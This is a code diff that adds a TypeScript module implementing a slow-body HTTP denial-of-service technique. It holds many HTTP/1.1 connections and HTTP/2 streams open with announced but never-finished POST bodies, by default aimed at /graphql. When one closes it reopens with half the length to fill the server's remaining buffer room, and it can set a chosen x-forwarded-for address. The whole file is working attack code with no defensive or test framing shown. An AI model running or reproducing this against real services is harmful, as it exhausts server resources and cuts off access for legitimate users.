@@ -1,0 +1,88 @@
+import type { Duplex } from 'node:stream';
+
+const LEAST_BYTES = 64;
+/** The longest pause before a request is opened again: not all at once, which would be an attack on the processor. */
+const REOPEN_MS = 2_000;
+
+export interface Announced {
+  /** The value of the header `Host`. */
+  host: string;
+  path?: string;
+  /** Length of the announced body. */
+  bytes: number;
+  /** How much of it is sent: one byte, unless all but the last one. */
+  isAlmostWhole?: boolean;
+  token?: string;
+  address?: string;
+}
+
+/**
+ * Requests that announce a body and never finish it. Whenever one ends it is opened again with half the length, so that small ones use
+ * up the room that large ones have left.
+ */
+export class AnnouncedBodies {
+  /** Requests whose first bytes are out. */
+  sent = 0;
+  readonly #open = new Set<Duplex>();
+  #isUnderWay = true;
+
+  /** @param connect a new connection, or a new stream of one that has no head yet */
+  announce(announced: Announced, connect: () => Duplex): void {
+    this.#repeat(announced.bytes, connect, (stream, length) =>
+      stream.write(headOf(announced, length) + bodyOf(announced, length), () => this.sent++),
+    );
+  }
+
+  /** The same as streams of HTTP/2. @param connect a stream whose head announces so many bytes; undefined while there is none */
+  announceStream(announced: Announced, connect: (length: number) => Duplex | undefined): void {
+    this.#repeat(announced.bytes, connect, (stream, length) =>
+      stream.write(bodyOf(announced, length), () => this.sent++),
+    );
+  }
+
+  stop(): void {
+    this.#isUnderWay = false;
+    for (const stream of this.#open) stream.destroy();
+  }
+
+  #repeat(
+    bytes: number,
+    connect: (length: number) => Duplex | undefined,
+    write: (stream: Duplex, length: number) => unknown,
+  ): void {
+    let length = bytes;
+    const again = (): void => {
+      if (this.#isUnderWay) setTimeout(begin, REOPEN_MS * Math.random());
+    };
+    const begin = (): void => {
+      if (!this.#isUnderWay) return;
+      const stream = connect(length);
+      if (!stream) return again();
+      this.#open.add(stream);
+      stream.on('error', () => {});
+      stream.once('data', () => stream.destroy());
+      stream.once('close', () => {
+        this.#open.delete(stream);
+        length = length > LEAST_BYTES ? Math.floor(length / 2) : bytes;
+        again();
+      });
+      write(stream, length);
+    };
+    begin();
+  }
+}
+
+const headOf = ({ host, path = '/graphql', token, address }: Announced, length: number): string =>
+  [
+    `POST ${path} HTTP/1.1`,
+    `host: ${host}`,
+    ...(address === undefined ? [] : [`x-forwarded-for: ${address}`]),
+    'content-type: application/json',
+    `content-length: ${length}`,
+    ...(token === undefined ? [] : [`authorization: Bearer ${token}`]),
+    '',
+    '',
+  ].join('\r\n');
+
+const bodyOf = ({ isAlmostWhole }: Announced, length: number): string =>
+  isAlmostWhole ? `{${' '.repeat(length - 2)}` : '{';
